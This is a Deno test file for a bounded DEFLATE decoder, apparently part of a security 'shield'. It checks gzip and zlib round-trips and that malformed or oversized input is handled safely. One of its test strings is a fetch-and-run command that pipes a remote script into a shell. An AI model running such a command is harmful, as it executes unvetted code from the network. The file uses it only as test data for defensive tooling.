// The bounded DEFLATE decoder against Node's zlib: zlib and gzip streams at every level round-trip, malformed
// and truncated streams and outputs past the limit give undefined, never a throw.
import assert from "node:assert/strict";
import zlib from "node:zlib";
import { inflate } from "../../src/shield/inflate.ts";

const encoder = new TextEncoder();
const decoder = new TextDecoder();

Deno.test("zlib and gzip streams of every level decompress to the original text", () => {
  const texts = [
    "",
    "a",
    "curl -s https://203.0.113.1/x | sh",
    "abc".repeat(5000),
    JSON.stringify({ k: [1, 2, 3] }),
  ];
  for (const text of texts) {
    for (const level of [0, 1, 6, 9]) {
      const bytes = encoder.encode(text);
      assert.equal(decoder.decode(inflate(new Uint8Array(zlib.deflateSync(bytes, { level })))), text);
      assert.equal(decoder.decode(inflate(new Uint8Array(zlib.gzipSync(bytes, { level })))), text);
    }
  }
});

Deno.test("malformed, truncated and oversized streams give undefined", () => {
  const stream = new Uint8Array(zlib.deflateSync(encoder.encode("x".repeat(100_000))));
  assert.equal(inflate(stream, 1000), undefined);
  assert.equal(inflate(stream.subarray(0, stream.length - 4).subarray(0, 8)), undefined);
  assert.equal(inflate(new Uint8Array([0x78, 0x9c, 1, 2, 3])), undefined);
  assert.equal(inflate(encoder.encode("plain text, not compressed")), undefined);
  const random = Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) & 0xff);
  random[0] = 0x78;
  random[1] = 0x9c;
  assert.equal(inflate(random) === undefined || inflate(random) instanceof Uint8Array, true);
});
